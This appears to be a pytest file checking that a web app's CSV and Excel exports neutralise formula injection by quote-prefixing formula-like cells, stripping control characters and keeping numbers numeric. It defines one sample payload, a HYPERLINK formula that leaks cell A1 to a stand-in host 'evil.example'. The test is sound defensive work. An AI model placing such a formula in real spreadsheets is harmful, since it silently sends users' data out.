"""Table downloads (CSV and Excel) write formula-like text as text and keep numbers as numbers."""

from __future__ import annotations

import csv
import io

from openpyxl import load_workbook

from jobmaal.web.datatable import Column, DataTable, to_csv, to_xlsx

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Klik")'


def table() -> DataTable:
    columns = [Column("name", "Navn"), Column("value", "Værdi", "pct")]
    return DataTable(name="proeve", title="Prøve\x01", columns=columns,
                     rows=[{"name": EVIL, "value": -3.5}, {"name": "@navn", "value": None}])


def test_csv_download_prefixes_formula_text_and_keeps_negative_numbers():
    rows = list(csv.reader(io.StringIO(to_csv(table()).decode("utf-8-sig"))))
    assert rows == [["name", "value"], ["'" + EVIL, "-3.5"], ["'@navn", ""]]


def test_excel_download_keeps_formula_text_as_text():
    sheet = load_workbook(io.BytesIO(to_xlsx(table()))).active
    cells = {c.value: c for row in sheet.iter_rows() for c in row if c.value is not None}
    assert "Prøve" in cells  # the control character is gone
    assert cells[EVIL].data_type == "s" and cells[EVIL].quotePrefix
    assert cells["@navn"].quotePrefix
    assert cells[-3.5].data_type == "n"
